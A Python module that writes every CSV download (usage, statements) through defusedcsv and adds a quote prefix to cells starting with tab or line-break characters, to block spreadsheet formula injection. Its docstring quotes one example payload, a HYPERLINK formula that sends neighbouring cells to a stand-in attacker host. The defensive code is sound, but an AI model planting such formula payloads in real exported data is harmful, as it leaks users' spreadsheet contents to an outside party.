"""The one CSV writer of every download (usage, statements): cells that a spreadsheet would run
as a formula are written as text.

A job's or a cluster's name is anyone's text, and a spreadsheet that opens the CSV runs a cell
that starts with `=`, `+`, `-`, `@` (or `|`, `%` in some) as a formula:
`=HYPERLINK("http://evil.example/?"&A2,"Open")` sends the neighbouring cells away when clicked.
defusedcsv prefixes such a cell with `'`, which spreadsheets read as "this is text" (numbers,
negative ones included, are left alone); a cell that starts with a tab or a carriage return
(which some spreadsheets strip before they look for the `=`) is prefixed here too. The value stays
readable: the cell shows the text as written, after the `'`."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, Protocol

from defusedcsv import csv as defused_csv  # type: ignore[import-untyped]

# Characters some spreadsheets strip at the start of a cell before they parse it.
_STRIPPED_LEADERS = ("\t", "\r", "\n")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class CsvWriter:
    """`csv.writer`'s `writerow` and `writerows`, with every cell neutralised."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = defused_csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralised(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def neutralised(cell: Any) -> Any:
    """The cell as a spreadsheet may read it without running it (defusedcsv does the rest)."""
    if isinstance(cell, str) and cell.startswith(_STRIPPED_LEADERS):
        return "'" + cell
    return cell


def csv_writer(stream: _Writable) -> CsvWriter:
    return CsvWriter(stream)
